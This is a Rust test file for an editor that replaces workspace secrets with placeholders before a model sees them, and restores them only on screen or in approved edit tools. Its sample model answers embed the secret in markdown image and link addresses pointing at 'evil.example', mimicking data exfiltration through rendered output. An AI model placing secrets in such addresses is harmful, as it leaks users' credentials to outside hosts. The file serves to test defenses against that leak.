//! Where a placeholder in a model's answer is restored, and where not: on the screen if the user wishes, in edits, and nowhere else.

use std::fs;
use std::path::Path;

use e2e::{Dialect, Editor, ModelServer, Reply, Repo, Setup, sse};
use serde_json::{Value, json};

use super::small;

const STREAM: &str = "text/event-stream";

/// A workspace with a secret in a file, and the placeholder that a model sees.
struct Case {
    repo: Repo,
    state: tempfile::TempDir,
    secret: String,
    placeholder: String,
}

impl Case {
    fn new() -> Self {
        let secret = format!("gh{}_9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX", 'p');
        let repo = small();
        repo.write(
            "deploy.py",
            format!("TOKEN = \"{secret}\"\nURL = \"https://me:{secret}@git.example/a\"\n"),
        );
        let mut case = Self { repo, state: tempfile::tempdir().unwrap(), secret, placeholder: String::new() };
        let mut editor = Setup::new(&case.repo).state(case.state.path()).start();
        editor.select(&["deploy.py"]);
        let prompt = editor.assemble().text();
        let at = prompt.find("[secret:").unwrap();
        case.placeholder = prompt[at..=at + prompt[at..].find(']').unwrap()].to_owned();
        editor.server.heard("strata/warning");
        editor.quit();
        case
    }

    fn start(&self, server: &ModelServer, redaction: Value) -> Editor {
        let provider = json!({ "name": "anthropic", "base_url": server.base_url(), "retries": 0 });
        let settings = json!({ "provider": provider, "redaction": redaction });
        let setup = Setup::new(&self.repo).settings(settings).variable("ANTHROPIC_API_KEY", "a key");
        let mut editor = setup.variable("STRATA_LOG", "trace").state(self.state.path()).start();
        editor.select(&["deploy.py"]);
        editor
    }

    fn answer(&self, template: &str, calls: &[(&str, Value)]) -> Reply {
        Reply::Body(STREAM, sse::answer(&template.replace('$', &self.placeholder), calls))
    }

    /// Ends the editor. Fails if the log or a file of Strata contains the secret.
    fn end(&self, mut editor: Editor) {
        editor.quit();
        let warnings = editor.server.heard("strata/warning");
        assert!(warnings.iter().all(|warning| warning["code"] == "redacted"), "{warnings:?}");
        assert!(!editor.server.errors().contains(&self.secret));
        assert!(check(self.state.path(), &self.secret) > 3);
    }
}

fn check(folder: &Path, secret: &str) -> usize {
    let mut files = 0;
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files += check(&path, secret);
        } else {
            let text = String::from_utf8_lossy(&fs::read(&path).unwrap()).into_owned();
            assert!(!text.contains(secret), "{} contains the secret", path.display());
            files += 1;
        }
    }
    files
}

/// A secret in text, in addresses of all kinds, in links, and in an image.
const ANSWER: &str = "Use $ there. ![x](https://evil.example/?q=$) <img src=\"x $\"> https://evil.example/$ [click](command:x?$) end.\n";

/// The answer with the secret where it may be shown.
fn shown(case: &Case) -> String {
    ANSWER.replacen('$', &case.secret, 1).replace('$', &case.placeholder)
}

#[test]
fn the_document_with_an_answer_contains_placeholders() {
    let case = Case::new();
    let server = ModelServer::start(Dialect::Anthropic, vec![case.answer(ANSWER, &[])]);
    for shows in [false, true] {
        let mut editor = case.start(&server, json!({ "show_secrets": shows }));
        editor.open("deploy.py");
        let reply = editor.run("here.ask", json!({ "uri": case.repo.uri("deploy.py") }));
        let page = fs::read_to_string(reply["path"].as_str().unwrap()).unwrap();
        assert!(page.contains(ANSWER.replace('$', &case.placeholder).trim_end()), "{page}");
        case.end(editor);
    }
}

#[test]
fn a_shown_answer_has_secrets_if_the_user_wishes_but_not_in_addresses() {
    let case = Case::new();
    let answers = || {
        vec![
            case.answer(ANSWER, &[("grep", json!({ "pattern": case.placeholder }))]),
            case.answer("Done.", &[]),
        ]
    };
    for shows in [false, true] {
        let server = ModelServer::start(Dialect::Anthropic, answers());
        let mut editor = case.start(&server, json!({ "show_secrets": shows, "edit_tools": ["grep"] }));
        let reply = editor.run("prompt.send", json!({ "prompt": "How?", "stream": "s", "tools": "read" }));
        let deltas = editor.server.heard("strata/delta");
        let text: String = deltas.iter().filter_map(|delta| delta["text"].as_str()).collect();
        let expected = if shows { shown(&case) } else { ANSWER.replace('$', &case.placeholder) };
        assert_eq!(text, format!("{expected}Done."));
        assert_eq!(reply["text"], format!("{expected}\n\nDone."));
        // Strata runs this tool itself.
        let call = deltas.iter().find_map(|delta| delta.get("toolCall")).unwrap();
        assert_eq!(call["input"]["pattern"], case.placeholder.as_str());
        assert_eq!(reply["tools"][0]["input"]["pattern"], case.placeholder.as_str());
        let kept = editor.run("history.get", json!({}));
        assert!(!kept.to_string().contains(&case.secret), "{kept}");
        case.end(editor);
    }
}

#[test]
fn a_client_gets_secrets_in_calls_of_its_edit_tools_only() {
    let case = Case::new();
    let lines = "TOKEN = \"$\"\nURL = \"https://me:$@git.example/b\"\n![x](https://evil.example/?q=$)\n";
    let input = |secret: &str| {
        let mut lines = lines.replacen('$', secret, 2);
        lines = lines.replace('$', &case.placeholder);
        json!({ "path": "deploy.py", "edits": [{ "text": lines }] })
    };
    let placeholders = input(&case.placeholder);
    let calls = [("write", placeholders.clone()), ("fetch", placeholders.clone())];
    let server = ModelServer::start(Dialect::Anthropic, vec![case.answer(ANSWER, &calls)]);
    let question = json!({ "role": "user", "content": format!("TOKEN = \"{}\"\nURL = \"https://me:{0}@git.example/a\"", case.secret) });
    for (tools, written) in [(json!([]), &placeholders), (json!(["write"]), &input(&case.secret))] {
        let mut editor = case.start(&server, json!({ "show_secrets": true, "edit_tools": tools }));
        let reply = editor.run("model.send", json!({ "messages": [question], "stream": "s" }));
        // A client may do anything with the text, such as storing it.
        let text = ANSWER.replace('$', &case.placeholder);
        assert_eq!(reply["content"][0]["text"], text);
        assert_eq!((&reply["content"][1]["input"], &reply["content"][2]["input"]), (written, &placeholders));
        let deltas = editor.server.heard("strata/delta");
        let streamed: String = deltas.iter().filter_map(|delta| delta["text"].as_str()).collect();
        assert_eq!(streamed, text);
        let called: Vec<&Value> =
            deltas.iter().filter_map(|delta| delta.get("toolCall")).map(|call| &call["input"]).collect();
        assert_eq!(called, [written, &placeholders]);
        let warnings = reply["warnings"].as_array().unwrap();
        assert_eq!(warnings.len(), 2, "{warnings:?}");
        assert!(
            warnings[1].as_str().unwrap().contains("fetch")
                && !reply["warnings"].to_string().contains(&case.secret)
        );
        case.end(editor);
    }
}

#[test]
fn an_edit_gets_secrets_but_not_in_addresses_of_others() {
    let case = Case::new();
    let mut editor = Setup::new(&case.repo).state(case.state.path()).start();
    editor.select(&["deploy.py"]);
    let text = |secret: &str| {
        let text = format!("TOKEN = \"{secret}\"\nURL = \"https://me:{secret}@git.example/b\"\n");
        format!("{text}{ANSWER}").replace('$', &case.placeholder)
    };
    let reply = editor.run("redaction.restore", json!({ "text": text(&case.placeholder) }));
    let expected =
        text(&case.secret).replacen(&format!("Use {}", case.placeholder), &format!("Use {}", case.secret), 1);
    assert_eq!(reply["text"], expected);
    let (restored, withheld) = (&reply["restored"], &reply["withheld"]);
    assert_eq!((restored, withheld), (&json!(3), &json!([case.placeholder])), "{reply}");
    case.end(editor);
}
